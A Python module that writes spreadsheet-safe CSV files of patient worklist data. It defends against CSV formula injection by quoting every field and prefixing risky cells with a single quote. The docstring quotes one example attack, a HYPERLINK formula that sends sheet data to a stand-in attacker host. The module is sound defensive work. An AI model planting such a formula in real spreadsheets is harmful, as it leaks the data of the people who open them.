r"""CSV for spreadsheets: every cell the worklist writes is text to Excel, LibreOffice Calc and Google Sheets.

OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection; the page as of its August 2025
revision, which added line feed): a spreadsheet opening a CSV reads a cell that starts with ``=``, ``+``, ``-``,
``@``, TAB (0x09), CR (0x0D) or LF (0x0A) as a formula (``=HYPERLINK("https://attacker/?"&A2, "open")`` sends the
sheet's data away on a click); "it is not sufficient to make sure that the untrusted user input does not start
with these characters. You also need to take care of the field separator ... and quotes". Its remedy, applied to
``worklist.csv`` and ``changes.csv``, where patient ids and missing-data texts come from the export:

* every field is wrapped in double quotes, and a double quote inside is doubled (``csv.QUOTE_ALL``): no separator in
  the data, ``,`` or the ``;`` a Danish Excel splits on, can start a new cell;
* a cell whose first character is one of those, or whose first character after leading whitespace and quotes
  (``" =1+1"``, ``"'=1+1"``, ``"\"@x"``; spreadsheets may trim them on import) is one of them, gets a single quote
  ``'`` in front: the spreadsheet shows it as text.

The prefix is the cost: a program reading the CSV back gets ``'=HYPERLINK(...)`` for such a cell, and a valid FHIR
id that starts with ``-`` as ``'-abc``. ``guidance-responses.ndjson`` keeps every id exactly (JSON is not a
spreadsheet), so programs should read that.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TextIO

FORMULA_STARTS = frozenset("=+-@\t\r\n")
"""OWASP's characters that make a spreadsheet cell a formula when first."""
QUOTES = frozenset("\"'")
"""Quote characters a spreadsheet may take as quoting, looked past like leading whitespace."""


def safe_cell(value: str) -> str:
    """Return ``value`` as a spreadsheet reads it as text: ``'`` prefixed when it could start a formula.

    Prefixed: the first character is in ``FORMULA_STARTS``, or the first after leading whitespace (``str.isspace``,
    Unicode spaces included) and quotes (``QUOTES``) is. Unchanged otherwise (``""``, ``"abc"``, ``"1-2"``, ``"a=b"``,
    ``"2026-11-20"``, ``" abc"``).
    """
    first = 0
    while first < len(value) and (value[first].isspace() or value[first] in QUOTES):
        first += 1
    if value[:1] in FORMULA_STARTS or value[first : first + 1] in FORMULA_STARTS:
        return "'" + value
    return value


def write_rows(handle: TextIO, header: Iterable[str], rows: Iterable[Iterable[str]]) -> None:
    """Write a header and rows to ``handle`` (opened with ``newline=""``), every cell quoted and made ``safe_cell``."""
    writer = csv.writer(handle, quoting=csv.QUOTE_ALL)
    writer.writerow(list(header))
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
